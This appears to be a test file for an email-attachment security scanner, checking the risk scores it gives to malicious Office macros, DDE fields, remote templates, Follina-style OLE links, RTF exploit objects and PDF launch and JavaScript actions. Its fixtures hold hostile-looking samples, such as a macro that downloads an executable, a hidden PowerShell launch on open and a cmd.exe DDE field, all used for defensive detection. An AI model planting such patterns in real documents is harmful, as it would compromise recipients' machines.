import { deflateSync } from 'node:zlib';
import { encryptedPdf, linkAnnotation, oleDocument, ooxml, relationships, simplePdf, vbaProjectBin } from '../../core/documents/fixtures';
import { attachment, finding, ids, scan, scanFile, subjectWith } from './helpers';

const xlsm = (source: string): Buffer => ooxml('excel', { 'xl/vbaProject.bin': vbaProjectBin([{ name: 'Module1', source }]) });

describe('macros', () => {
  it('attachments.vba_macro: a macro that only formats cells is medium (macros from outside are a risk in themselves)', async () => {
    const output = await scanFile('report.xlsx', xlsm('Sub FormatIt()\r\n Range("A1").Font.Bold = True\r\nEnd Sub'));
    expect(ids(output)).toEqual(['attachments.vba_macro']);
    expect(finding(output, 'attachments.vba_macro')).toMatchObject({ score: 50, evidence: ['report.xlsx: VBA project with 1 module(s): Module1'] });
  });

  it('attachments.vba_autoexec: a procedure Office runs on open', async () => {
    expect(finding(await scanFile('a.xlsm', xlsm('Sub Auto_Open()\r\nEnd Sub')), 'attachments.vba_autoexec')).toMatchObject({ score: 70, evidence: ['a.xlsm: runs on its own: Auto_Open'] });
  });

  it('attachments.vba_suspicious: strong calls 75, weak calls 55, either in an auto-exec macro 90/75', async () => {
    expect(finding(await scanFile('a.xlsm', xlsm('Sub Go()\r\n URLDownloadToFile 0, "http://x", "c:\\a.exe", 0, 0\r\nEnd Sub')), 'attachments.vba_suspicious')?.score).toBe(75);
    expect(finding(await scanFile('a.xlsm', xlsm('Sub Go()\r\n Set d = CreateObject("Scripting.Dictionary")\r\nEnd Sub')), 'attachments.vba_suspicious')?.score).toBe(55);
    expect(finding(await scanFile('a.xlsm', xlsm('Sub Document_Open()\r\n Shell "powershell -w hidden"\r\nEnd Sub')), 'attachments.vba_suspicious')?.score).toBe(90);
    expect(finding(await scanFile('a.xlsm', xlsm('Sub AutoOpen()\r\n Set d = CreateObject("Scripting.Dictionary")\r\nEnd Sub')), 'attachments.vba_suspicious')?.score).toBe(75);
  });

  it('reads legacy Word macros and reports a project without readable source as possible stomping', async () => {
    const doc = oleDocument({ application: 'word', modules: [{ name: 'ThisDocument', source: 'Sub Document_Open()\r\nEnd Sub' }] });
    expect(ids(await scanFile('letter.doc', doc))).toEqual(['attachments.vba_autoexec', 'attachments.vba_macro']);
    const stomped = ooxml('word', { 'word/vbaProject.bin': vbaProjectBin([], {}) });
    expect(finding(await scanFile('letter.docm', stomped), 'attachments.vba_macro')).toMatchObject({ score: 60 });
  });

  it('attachments.xlm_macro and attachments.office_dde', async () => {
    expect(finding(await scanFile('a.xls', oleDocument({ application: 'excel', macroSheet: true })), 'attachments.xlm_macro')?.score).toBe(70);
    const dde = ooxml('word', { 'word/document.xml': '<w:document><w:body><w:fldSimple w:instr=" DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe &quot;/k calc&quot;"/></w:body></w:document>' });
    expect(finding(await scanFile('a.docx', dde), 'attachments.office_dde')?.score).toBe(75);
  });
});

describe('remote references and embedded files', () => {
  it('attachments.office_template_injection: a remote attachedTemplate', async () => {
    const doc = ooxml('word', { 'word/_rels/settings.xml.rels': relationships([{ type: 'attachedTemplate', target: 'http://198.51.100.7/t.dotm', external: true }]) });
    const output = await scanFile('cv.docx', doc);
    expect(finding(output, 'attachments.office_template_injection')).toMatchObject({ score: 80, evidence: ['cv.docx: template loaded from http://198.51.100.7/t.dotm'] });
    expect(output.iocs?.urls).toEqual(['http://198.51.100.7/t.dotm']);
  });

  it('a template from the local disk (documents made from a company template) is not injection', async () => {
    const doc = ooxml('word', { 'word/_rels/settings.xml.rels': relationships([{ type: 'attachedTemplate', target: 'file:///C:\\Users\\me\\AppData\\Roaming\\Microsoft\\Templates\\Normal.dotm', external: true }]) });
    expect((await scanFile('cv.docx', doc)).findings).toEqual([]);
  });

  it('attachments.office_remote_object: external OLE object; protocol handlers (Follina) are critical', async () => {
    const ole = ooxml('word', { 'word/_rels/document.xml.rels': relationships([{ type: 'oleObject', target: 'https://x.example/o.bin', external: true }]) });
    expect(finding(await scanFile('a.docx', ole), 'attachments.office_remote_object')?.score).toBe(80);
    const follina = ooxml('word', { 'word/_rels/document.xml.rels': relationships([{ type: 'oleObject', target: 'mhtml:https://x.example/f.html!x-usc:https://x.example/f.html', external: true }]) });
    expect(finding(await scanFile('a.docx', follina), 'attachments.office_remote_object')).toMatchObject({ score: 90, severity: 'critical' });
  });

  it('attachments.office_external_link: hyperlinks are noted (info) and left to the links engine', async () => {
    const doc = ooxml('word', { 'word/_rels/document.xml.rels': relationships([{ type: 'hyperlink', target: 'https://www.example.org/', external: true }]) });
    expect(finding(await scanFile('a.docx', doc), 'attachments.office_external_link')).toMatchObject({ score: 5, severity: 'info' });
  });

  it('attachments.office_embedded_file: a packaged executable is high, another file medium-low', async () => {
    expect(finding(await scanFile('a.doc', oleDocument({ application: 'word', packagedFile: { name: 'photo.jpg.exe', data: Buffer.from('MZ') } })), 'attachments.office_embedded_file')?.score).toBe(85);
    expect(finding(await scanFile('a.doc', oleDocument({ application: 'word', packagedFile: { name: 'terms.txt', data: Buffer.from('x') } })), 'attachments.office_embedded_file')?.score).toBe(30);
  });

  it('attachments.office_encrypted and attachments.office_unreadable', async () => {
    expect(finding(await scanFile('salary.docx', oleDocument({ application: 'encrypted_ooxml' })), 'attachments.office_encrypted')?.score).toBe(35);
    const damaged = Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(1000, 0xff)]);
    expect(finding(await scanFile('old.doc', damaged), 'attachments.office_unreadable')?.score).toBe(15);
  });

  it('attachments.rtf_object: exploit classes high, other objects low', async () => {
    const hex = (t: string): string => Buffer.from(t, 'latin1').toString('hex');
    const object = (cls: string): string => `{\\object\\objemb{\\*\\objdata 0105000002000000${(cls.length + 1).toString(16).padStart(2, '0')}000000${hex(`${cls}\0`)}}}`;
    expect(finding(await scanFile('order.rtf', `{\\rtf1${object('Equation.3')}}`), 'attachments.rtf_object')?.score).toBe(80);
    expect(finding(await scanFile('order.rtf', `{\\rtf1${object('Excel.Sheet.8')}}`), 'attachments.rtf_object')?.score).toBe(30);
    expect((await scanFile('letter.rtf', '{\\rtf1\\ansi Dear Sir}')).findings).toEqual([]);
  });
});

describe('PDF', () => {
  const withContents = (pdf: Buffer, content: string): Buffer => {
    const compressed = deflateSync(Buffer.from(content));
    const text = pdf.toString('latin1');
    const count = (text.match(/ 0 obj/g) ?? []).length;
    // Append the content stream as a new object referenced by the page.
    const body = text.replace('/MediaBox [0 0 600 800]', `/MediaBox [0 0 600 800] /Contents ${count + 1} 0 R`).replace(/xref[^]*$/, '');
    return Buffer.from(`${body}${count + 1} 0 obj\n<< /Length ${compressed.length} /Filter /FlateDecode >>\nstream\n${compressed.toString('latin1')}\nendstream\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n`, 'latin1');
  };

  it('attachments.pdf_javascript: 80 when it runs on open, 60 otherwise', async () => {
    const auto = simplePdf({ catalog: '/OpenAction << /S /JavaScript /JS (app.alert(1)) >>' });
    expect(finding(await scanFile('a.pdf', auto), 'attachments.pdf_javascript')?.score).toBe(80);
    const field = simplePdf({ extra: ['<< /S /JavaScript /JS (AFNumber_Format(2)) >>'] });
    expect(finding(await scanFile('a.pdf', field), 'attachments.pdf_javascript')?.score).toBe(60);
  });

  it('attachments.pdf_launch, pdf_auto_action, pdf_embedded_file, pdf_form_submit', async () => {
    const output = await scanFile(
      'a.pdf',
      simplePdf({
        catalog: '/OpenAction << /S /URI /URI (https://open.example/) >>',
        extra: [
          '<< /S /Launch /F (cmd.exe) >>',
          '<< /Type /Filespec /F (run.vbs) /EF << /F 7 0 R >> >>',
          '<< /S /SubmitForm /F << /FS /URL /F (https://collect.example/s) >> >>',
          '<< /Type /Filespec /F (factur-x.xml) /EF << /F 7 0 R >> >>',
          '<< /Type /EmbeddedFile /Length 1 >>\nstream\nx\nendstream',
        ],
      }),
    );
    expect(finding(output, 'attachments.pdf_launch')?.score).toBe(85);
    expect(finding(output, 'attachments.pdf_auto_action')).toMatchObject({ score: 50, evidence: ['a.pdf: URI action run by OpenAction'] });
    expect(finding(output, 'attachments.pdf_embedded_file')).toMatchObject({ score: 85 });
    expect(finding(output, 'attachments.pdf_embedded_file')?.evidence).toContain('a.pdf: embedded file "factur-x.xml"');
    expect(finding(output, 'attachments.pdf_form_submit')?.score).toBe(40);
  });

  it('an e-invoice PDF with an embedded XML (ZUGFeRD / Factur-X) is low', async () => {
    const output = await scanFile('invoice.pdf', simplePdf({ extra: ['<< /Type /Filespec /F (factur-x.xml) /EF << /F 5 0 R >> >>', '<< /Type /EmbeddedFile /Length 1 >>\nstream\nx\nendstream'] }));
    expect(output.findings).toEqual([expect.objectContaining({ id: 'attachments.pdf_embedded_file', score: 15 })]);
  });

  it('attachments.pdf_link_lure: a picture of a document that is one big link is 55; a big button on a short PDF 40', async () => {
    const picture = withContents(simplePdf({ annots: [linkAnnotation('https://lure.example/', '[0 0 600 700]')] }), 'q 600 0 0 800 0 0 cm /Im0 Do Q');
    expect(finding(await scanFile('doc.pdf', picture), 'attachments.pdf_link_lure')).toMatchObject({ score: 55 });
    const button = withContents(simplePdf({ annots: [linkAnnotation('https://lure.example/', '[100 100 500 400]')] }), 'BT (Your document is ready) Tj ET '.repeat(20));
    expect(finding(await scanFile('doc.pdf', button), 'attachments.pdf_link_lure')?.score).toBe(40);
  });

  it('attachments.pdf_encrypted: 55 with the password in the message, 30 locked, 20 when encryption only hides links', async () => {
    const locked = encryptedPdf({ revision: 3, userPassword: '123', uri: 'https://x.example/' });
    expect(finding(await scanFile('a.pdf', locked), 'attachments.pdf_encrypted')?.score).toBe(30);
    const given = await scan(subjectWith([await attachment('a.pdf', locked)], { text: 'Use a senha: 123' }));
    expect(finding(given, 'attachments.pdf_encrypted')?.score).toBe(55);
    expect(finding(await scanFile('a.pdf', encryptedPdf({ revision: 3, uri: 'https://x.example/' })), 'attachments.pdf_encrypted')?.score).toBe(20);
  });

  it('attachments.pdf_unparseable: a PDF header followed by garbage', async () => {
    expect(finding(await scanFile('a.pdf', '%PDF-1.7\n\u0000\u0001garbage'), 'attachments.pdf_unparseable')?.score).toBe(25);
  });
});
